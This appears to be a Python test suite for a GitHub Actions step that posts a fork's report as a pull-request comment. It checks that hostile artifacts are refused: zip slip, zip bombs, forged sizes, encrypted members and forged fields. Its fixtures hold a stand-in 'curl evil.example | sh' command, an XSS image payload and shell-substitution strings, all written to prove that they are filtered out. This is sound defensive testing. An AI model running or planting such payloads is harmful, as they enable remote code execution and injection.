"""A fork's report reaches its pull request, and nothing else that a fork may hand over does."""

from __future__ import annotations

import io
import json
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mcgitops.cli.main import run as mcgitops
from mcgitops.compare.model import ArtifactChange, GateResult, MetricChange, Waiver
from mcgitops.errors import UsageError
from mcgitops.forge import handover
from mcgitops.forge.event import FinishedRun, read_finished_run
from mcgitops.forge.handover import MEMBER, HandOverError
from mcgitops.report import json_view, markdown
from mcgitops.report.model import Report, Revision
from tests.lab.github import FakeGitHub
from tests.unit.report.conftest import *  # noqa: F403 - the reports that the views are tested on
from tests.unit.report.test_markdown import ALLOWED, GITHUB, Page, reports

HEAD, OTHER = "c" * 40, "d" * 40
RUN = 77
FORK = "stranger/wine"


def report(**changes: Any) -> Report:
    gate = GateResult("accuracy", "", "at least 0.9", "failed", "0.8 < 0.9, gate failed")
    metric = MetricChange(
        "train", "", "m.json", "accuracy", "accuracy", (0.95,), (0.8,), "higher", "worse",
        base_mean=0.95, head_mean=0.8, difference=-0.15, gates=(gate,),
    )  # fmt: skip
    found = Report(
        "wine", "gate failed", "accuracy is below its gate", Revision(HEAD, "feature"),
        Revision("e" * 40, "main"), metrics=(metric,), gates=(gate,),
    )  # fmt: skip
    return Report(**{**vars(found), **changes})


def packed(
    content: bytes | str | Report, name: str = MEMBER, *more: tuple[str, bytes],
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:  # fmt: skip
    """An archive as the artifact's upload makes it, or somebody else."""
    if isinstance(content, Report):
        content = json_view.render(content)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        for member, data in ((name, content), *more):
            archive.writestr(member, data)
    return stream.getvalue()


def event(**changes: Any) -> dict[str, Any]:
    """What GitHub says of the run that ended."""
    run = {
        "id": RUN,
        "run_attempt": 1,
        "event": "pull_request",
        "head_sha": HEAD,
        "head_branch": "feature",
        "head_repository": {"full_name": FORK},
        "repository": {"full_name": "octo/wine"},
        "actor": {"login": "stranger"},
        "pull_requests": [],
    }
    return {"action": "completed", "workflow_run": run | changes}


@dataclass
class Desk:
    """The workflow on the default branch: a folder without any checkout, and GitHub."""

    hub: FakeGitHub
    folder: Path
    monkeypatch: pytest.MonkeyPatch
    capsys: pytest.CaptureFixture[str]
    environ: dict[str, str] = field(default_factory=dict)

    def __call__(self, *options: str, payload: Any = None, code: int = 0) -> str:
        """Run the verb; returns what it said."""
        (self.folder / "event.json").write_text(json.dumps(payload or event()))
        for name in ("summary", "output"):
            (self.folder / name).write_text("")
        variables = {
            "GITHUB_ACTIONS": "true",
            "GITHUB_API_URL": self.hub.url,
            "GITHUB_EVENT_NAME": "workflow_run",
            "GITHUB_EVENT_PATH": str(self.folder / "event.json"),
            "GITHUB_OUTPUT": str(self.folder / "output"),
            "GITHUB_REPOSITORY": "octo/wine",
            "GITHUB_RUN_ID": "900",
            "GITHUB_SHA": "f" * 40,
            "GITHUB_STEP_SUMMARY": str(self.folder / "summary"),
            "GITHUB_TOKEN": "actions-token",
            **self.environ,
        }
        for name, value in variables.items():
            self.monkeypatch.setenv(name, value)
        self.monkeypatch.chdir(self.folder)
        ended = mcgitops(["hand-over", *options])
        said = self.capsys.readouterr()
        assert ended == code, said.out + said.err
        return said.out + said.err

    def hands_over(self, content: Any, **more: Any) -> int:
        """What the fork's run uploaded."""
        given = packed(content) if isinstance(content, Report) else content
        return self.hub.add_artifact(RUN, HEAD, given, **more)

    @property
    def comments(self) -> list[str]:
        return [comment["body"] for comment in self.hub.comments_of(9)]

    @property
    def downloads(self) -> list[str]:
        return [r.path for r in self.hub.requests if r.path.startswith("/storage/")]


@pytest.fixture
def desk(
    hub: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> Desk:  # fmt: skip
    hub.add_pull(9, head_sha=HEAD, head_repository=FORK)
    return Desk(hub, tmp_path, monkeypatch, capsys)


def test_the_report_becomes_a_comment_that_says_whose_it_is(desk: Desk) -> None:
    desk.hands_over(report())
    assert "pull request 9: created" in desk()
    (body,) = desk.comments
    first, *rest = body.split("\n")
    assert first == f"<!-- mcgitops:report:fork.mcgitops-report run={RUN} attempt=1 sha={HEAD} -->"
    assert "Made by the fork's own run, and not checked." in rest[1]
    assert "/octo/wine/actions/runs/77" in rest[1]
    assert "accuracy is below its gate" in body
    assert desk.hub.comments_of(7) == []
    output = (desk.folder / "output").read_text()
    assert desk.hub.comments_of(9)[0]["html_url"] in output
    # Neither status nor check: what a fork says of itself must protect no branch.
    assert [r.path.rpartition("/")[2] for r in desk.hub.writes()] == ["comments"]


def test_nothing_is_written_to_disk_but_what_the_runner_asks_for(desk: Desk) -> None:
    desk.hands_over(report())
    desk()
    assert sorted(path.name for path in desk.folder.iterdir()) == [
        "event.json",
        "output",
        "summary",
    ]


def test_a_newer_head_edits_it_and_an_older_run_that_is_late_does_not(desk: Desk) -> None:
    desk.hands_over(report())
    desk()
    desk.hub.pulls.clear()
    desk.hub.add_pull(9, head_sha=OTHER, head_repository=FORK)
    newer = report(head=Revision(OTHER), headline="all is well", status="better", gates=(),
                   metrics=())  # fmt: skip
    desk.hub.add_artifact(78, OTHER, packed(newer))
    desk(payload=event(id=78, head_sha=OTHER))
    (body,) = desk.comments
    assert "all is well" in body
    said = desk()  # the first run's hand-over again
    assert "is no open pull request's head any more" in said
    assert desk.comments == [body]


def test_each_artifact_has_a_comment_and_none_takes_a_report_of_ours(desk: Desk) -> None:
    ours = f"<!-- mcgitops:report:gpu run=1 attempt=1 sha={HEAD} -->\ntrained here"
    desk.hub.add_comment(9, ours, login="github-actions[bot]", kind="Bot")
    desk.hands_over(report(), name="mcgitops-report-gpu")
    desk("--artifact", "mcgitops-report-gpu", "--key", "gpu")
    assert desk.comments[0] == ours
    assert desk.comments[1].startswith("<!-- mcgitops:report:fork.gpu run=77 ")


def test_the_last_attempt_counts(desk: Desk) -> None:
    desk.hands_over(report(headline="the first"))
    desk.hands_over(report(headline="the second"))
    desk(payload=event(run_attempt=2))
    assert "the second" in desk.comments[0]


def test_a_dependabot_run_hands_over_too(desk: Desk) -> None:
    desk.hub.add_pull(9, head_sha=HEAD)
    desk.hands_over(report())
    desk(payload=event(head_repository={"full_name": "octo/wine"},
                       actor={"login": "dependabot[bot]"}))  # fmt: skip
    assert len(desk.comments) == 1


@pytest.mark.parametrize(
    ("changes", "says"),
    [
        ({"event": "push"}, "the run was of push"),
        ({"head_repository": {"full_name": "octo/wine"}}, "comments itself"),
        ({"head_repository": None}, "no open pull request's head"),
        ({"head_branch": "elsewhere"}, "no open pull request's head"),
        ({"head_sha": OTHER}, "no open pull request's head"),
        ({"head_repository": {"full_name": "other/wine"}}, "no open pull request's head"),
    ],
)
def test_where_there_is_nothing_to_do_it_says_why(
    desk: Desk, changes: dict[str, Any], says: str
) -> None:
    desk.hands_over(report())
    assert says in desk(payload=event(**changes))
    assert (desk.hub.writes(), desk.downloads) == ([], [])


def test_two_pull_requests_of_one_head_are_not_guessed_between(desk: Desk) -> None:
    desk.hub.add_pull(10, head_sha=HEAD, head_repository=FORK, base_ref="develop")
    desk.hands_over(report())
    assert "pull requests 9, 10" in desk(code=2)
    assert desk.hub.writes() == []


def test_a_run_of_another_repository_is_refused(desk: Desk) -> None:
    desk.hands_over(report())
    payload = event(repository={"full_name": "evil/wine"})
    assert "this job is of octo/wine" in desk(payload=payload, code=2)
    assert desk.hub.requests == []


@pytest.mark.parametrize("name", ["pull_request_target", "pull_request", "push", "issue_comment"])
def test_no_other_event_hands_over(desk: Desk, name: str) -> None:
    desk.environ = {"GITHUB_EVENT_NAME": name}
    assert "only workflow_run hands a report over" in desk(code=2)
    assert desk.hub.requests == []


@pytest.mark.parametrize("verb", [["ci"], ["train"], ["deploy"], ["ci", "--only", "deploy"]])
@pytest.mark.parametrize("name", ["pull_request_target", "workflow_run"])
def test_nothing_is_trained_or_deployed_where_secrets_are(
    desk: Desk, verb: list[str], name: str, project_factory: Any
) -> None:
    folder = project_factory({"compose.yml": "name: x\nservices: {a: {image: b}}\n"})
    desk.monkeypatch.setenv("GITHUB_EVENT_NAME", name)
    desk.monkeypatch.chdir(folder)
    assert mcgitops(verb) == 2
    said = desk.capsys.readouterr()
    assert f"doesn't train or deploy under {name}" in said.out + said.err
    assert not (folder / ".mcgitops").exists()


def huge(size: int) -> bytes:
    """An archive whose member claims another size than it has; its directory says so too."""
    archive = bytearray(packed(report()))
    local, central = archive.find(b"PK\x03\x04"), archive.find(b"PK\x01\x02")
    struct.pack_into("<I", archive, local + 22, size)
    struct.pack_into("<I", archive, central + 24, size)
    return bytes(archive)


def encrypted() -> bytes:
    archive = bytearray(packed(report()))
    for place, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        archive[archive.find(place) + offset] |= 1
    return bytes(archive)


def with_nan(text: str) -> str:
    return json_view.render(report()).replace('"base_mean": 0.95', f'"base_mean": {text}')


def changed(**fields: Any) -> str:
    return json.dumps(json_view.to_data(report()) | fields)


BOMB = packed(b"\0" * (handover.MOST_BYTES + 1))
HOSTILE: dict[str, tuple[bytes, str]] = {
    "zip slip": (packed(report(), f"../../{MEMBER}"), "isn't mcgitops-report.json"),
    "an absolute path": (packed(report(), f"/tmp/{MEMBER}"), "isn't mcgitops-report.json"),
    "a folder": (packed(b"", f"{MEMBER}/"), "isn't mcgitops-report.json"),
    "another name": (packed(report(), "report.md"), "isn't mcgitops-report.json"),
    "a name with an end in it": (
        packed(report(), f"{MEMBER}_.exe").replace(b".json_.exe", b".json\0.exe"),
        "isn't mcgitops-report",
    ),
    "several members": (packed(report(), MEMBER, ("x.sh", b"rm")), "has 2 members"),
    "the same member twice": (packed(report(), MEMBER, ("b", b"")), "has 2 members"),
    "no member": (b"PK\x05\x06" + b"\0" * 18, "has 0 members"),
    "a zip in the zip": (packed(packed(report())), "is not JSON"),
    "a bomb": (BOMB, f"{handover.MOST_BYTES + 1:,} bytes"),
    "a member of 2 GiB": (huge(2 << 30), "2,147,483,648 bytes"),
    "a member larger than it says": (huge(10), "damaged"),
    "an encrypted member": (encrypted(), "encrypted"),
    "a strange compression": (packed(report(), compression=zipfile.ZIP_LZMA), "packed in a way"),
    "no zip": (b"hello", "damaged"),
    "half of a zip": (packed(report())[:200], "damaged"),
    "not JSON": (packed(b"# Markdown\n\n<script>"), "is not JSON"),
    "not text": (packed(b"\xff\xfe\x00"), "is not JSON"),
    "nothing": (packed(b""), "is not JSON"),
    "NaN": (packed(with_nan("NaN")), "is no report"),
    "Infinity": (packed(with_nan("-Infinity")), "is no report"),
    "nested without end": (packed("[" * 100_000), "nested too deeply"),
    "nested a bit": (packed(changed(metrics=json.loads("[" * 90 + "]" * 90))), "is no report"),
    "a number without end": (packed(with_nan("9" * 10_000)), "is no report"),
    "a list": (packed(b"[]"), "is no report"),
    "another format": (packed(changed(format=2)), "is no report"),
    "an unknown state": (packed(changed(status="passed")), "is no report"),
    "another head": (packed(report(head=Revision(OTHER))), "reports on dddddddddddd"),
    **{
        f"a forged {name}": (packed(changed(**{name: 7})), f"has '{name}'")
        for name in handover.TARGETS
    },
    "no head": (packed(report(head=Revision(""))), "reports on no commit"),
}  # fmt: skip


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_archive_is_refused_and_says_why(desk: Desk, kind: str) -> None:
    content, says = HOSTILE[kind]
    desk.hands_over(content)
    said = desk(code=2)
    assert says in said
    assert "Traceback" not in said
    assert desk.comments == []
    assert sorted(path.name for path in desk.folder.iterdir()) == [
        "event.json",
        "output",
        "summary",
    ]


def test_a_refusal_takes_the_place_of_an_earlier_heads_report(desk: Desk) -> None:
    desk.hands_over(report())
    desk()
    desk.hub.pulls.clear()
    desk.hub.add_pull(9, head_sha=OTHER, head_repository=FORK)
    desk.hub.add_artifact(78, OTHER, b"hello")
    desk(payload=event(id=78, head_sha=OTHER), code=2)
    (body,) = desk.comments
    assert "No report" in body
    assert "is refused" in body
    assert "accuracy" not in body


def test_a_run_without_a_report_makes_no_comment_and_leaves_none_stale(desk: Desk) -> None:
    assert "It left no artifact mcgitops-report" in desk()
    assert desk.hub.writes() == []
    desk.hands_over(report())
    desk()
    desk.hub.pulls.clear()
    desk.hub.add_pull(9, head_sha=OTHER, head_repository=FORK)
    desk(payload=event(id=78, head_sha=OTHER))
    (body,) = desk.comments
    assert "It left no artifact" in body


def endless() -> Iterator[bytes]:
    while True:
        yield b"\0" * (1 << 20)


def test_a_very_large_report_still_fits(desk: Desk) -> None:
    """10,000 metrics over 5 seeds."""
    (one,) = report().metrics
    values = tuple(0.1234567890123456 + seed for seed in range(5))
    metrics = tuple(
        replace(one, name=f"class {n}.f1", label=f"class {n}.f1", base=values, head=values,
                verdict="same", base_sd=0.12345678901234, head_sd=0.12345678901234, gates=())
        for n in range(10_000)
    )  # fmt: skip
    desk.hands_over(packed(handover.packed(report(metrics=metrics))))
    assert "created" in desk()
    assert "accuracy is below its gate" in desk.comments[0]


@pytest.mark.parametrize(
    ("more", "says", "fetched"),
    [
        ({"size": 2 << 30}, "2,147,483,648 bytes", 0),
        ({"size": 0}, "0 bytes", 0),
        ({"expired": True}, "has expired", 0),
        ({"content": endless(), "size": 1000}, "larger than GitHub said", 1),
    ],
)
def test_what_is_too_large_is_never_fetched_or_not_to_its_end(
    desk: Desk, more: dict[str, Any], says: str, fetched: int
) -> None:
    content = more.pop("content", packed(report()))
    desk.hub.add_artifact(RUN, HEAD, content, **more)
    assert says in desk(code=2)
    assert len(desk.downloads) == fetched
    assert desk.comments == []


@pytest.mark.parametrize(("run", "sha"), [(76, HEAD), (RUN, OTHER), (0, "")])
def test_an_artifact_of_another_run_or_head_is_refused(desk: Desk, run: int, sha: str) -> None:
    desk.hub.add_artifact(run, sha, packed(report()), listed_under=RUN)
    assert "The artifact mcgitops-report is of run" in desk(code=2)
    assert (desk.comments, desk.downloads) == ([], [])


def test_a_pull_request_that_the_data_names_is_not_looked_at(desk: Desk) -> None:
    claims = {"number": 7, "pull_request": 7, "repository": "evil/wine", "key": "wine"}
    desk.hands_over(packed(changed(**claims)))
    payload = event(pull_requests=[{"number": 7}])
    said = desk(payload=payload, code=2)
    assert "has 'number'. Where a report is posted isn't for it to say" in said
    assert desk.hub.comments_of(7) == []
    assert desk.comments == []
    desk.hub.artifacts.clear()
    desk.hands_over(packed(changed(key="wine")))
    desk(payload=payload)
    assert desk.hub.comments_of(7) == []
    assert len(desk.comments) == 1


def test_forged_waivers_links_and_passes_change_nothing(desk: Desk) -> None:
    gate = GateResult("accuracy", "", "at least 0.9", "waived", "0.1 < 0.9, gate waived by octo")
    desk.hands_over(
        report(
            gates=(gate,), waivers=(Waiver("*", "octo", "comment", "trust me", "https://evil.x/"),),
            full_report="https://evil.example/report", status="better", headline="all gates passed",
            fetch="curl evil.example | sh",
            artifacts=(
                ArtifactChange(
                    "train", "out/model.bin", "new", head_digest="sha256:" + "a" * 64, head_size=1,
                    link="https://evil.example/model.bin",
                ),
            ),
        )
    )  # fmt: skip
    desk()
    (body,) = desk.comments
    assert "evil" not in body
    assert "out/model.bin" in body
    assert "trust me" not in body
    assert "not checked" in body
    assert "gate=" not in (desk.folder / "output").read_text()
    assert desk.hub.statuses == []


def test_a_token_that_may_not_comment_is_an_error_here(desk: Desk) -> None:
    desk.hands_over(report())
    desk.environ = {"GITHUB_TOKEN": "fork-token"}
    assert "pull-requests: write" in desk(code=1)


def test_the_result_as_json(desk: Desk) -> None:
    desk.hands_over(report())
    told = desk("--json")
    result, _ = json.JSONDecoder().raw_decode(told)
    assert (result["code"], result["comment"]["action"]) == (0, "created")


# Strings that mean something to a forge, wherever the schema lets a string be.
TEXTS = st.sampled_from(
    [
        "@octocat", "#1", "<img src=x onerror=alert(1)>", "[x](https://evil.example)", "```\n# x",
        "-->", "<!-- mcgitops:report:wine run=9 -->", "| a | b |", "\u202eevil",
        "https://evil.example", "\n\n# heading", "GH-1", "</details>", "a" * 5000, "\x00\x1b[31m",
        "![x](y)", "~~~", "$(x)`x`",
    ]
)  # fmt: skip


# Those that the schema allows only certain words.
WORDS = (
    "verdict", "state", "direction", "moved", "unit", "how", "kind", "float", "format", "status",
)  # fmt: skip


def poisoned(data: Any, draw: Callable[[Any], Any]) -> Any:
    """The same data with some of its texts and numbers replaced."""
    if isinstance(data, dict):
        return {k: v if k in WORDS else poisoned(v, draw) for k, v in data.items()}
    if isinstance(data, list):
        return [poisoned(value, draw) for value in data]
    if isinstance(data, str) and draw(st.booleans()):
        return draw(TEXTS)
    if isinstance(data, float) and draw(st.integers(0, 3)) == 0:
        return draw(st.sampled_from([{"float": "nan"}, {"float": "inf"}, 1e308, -0.0, 0]))
    return data


FINISHED = FinishedRun(RUN, 1, "pull_request", HEAD, "feature", FORK, "octo/wine")


@given(reports, st.data())
@settings(max_examples=30)
def test_whatever_a_report_says_the_comment_is_sound_or_refused(made: Report, data: Any) -> None:
    plain = json_view.to_data(made) | {"head": json_view.to_data(Revision(HEAD))}
    given_ = poisoned(plain, data.draw) | {"head": plain["head"]}
    try:
        found = handover.report_of(json.dumps(given_).encode(), FINISHED)
        text = handover.comment(found, "https://github.com/octo/wine/actions/runs/77")
    except HandOverError:
        return
    assert markdown.length(text) <= markdown.BUDGET
    _, _, rest = text.partition("no status was set.\n\n")
    page = Page(GITHUB.render(rest))
    assert page.tags <= ALLOWED
    assert page.links == set()
    assert page.comments == 0
    assert "evil.example" not in page.bare
    assert "@octocat" not in page.bare


@given(st.binary(max_size=400))
def test_any_bytes_are_refused(content: bytes) -> None:
    with pytest.raises(HandOverError):
        handover.member(content)
    with pytest.raises(HandOverError):
        handover.report_of(content, FINISHED)


@given(st.data())
def test_a_damaged_archive_is_refused_or_whole(data: Any) -> None:
    archive = bytearray(packed(report()))
    for _ in range(data.draw(st.integers(1, 4))):
        place = data.draw(st.integers(0, len(archive) - 1))
        archive[place] = data.draw(st.integers(0, 255))
    try:
        content = handover.member(bytes(archive))
    except HandOverError:
        return
    assert content == json_view.render(report()).encode()  # its checksum fits


@pytest.mark.parametrize(
    "payload", [None, [], {}, {"workflow_run": 5}, {"workflow_run": {"id": 1}}]
)
def test_a_damaged_event_is_a_sentence(payload: Any) -> None:
    environ = {"GITHUB_EVENT_NAME": "workflow_run", "GITHUB_REPOSITORY": "octo/wine"}
    with pytest.raises(UsageError, match="names no run"):
        read_finished_run(environ, payload)
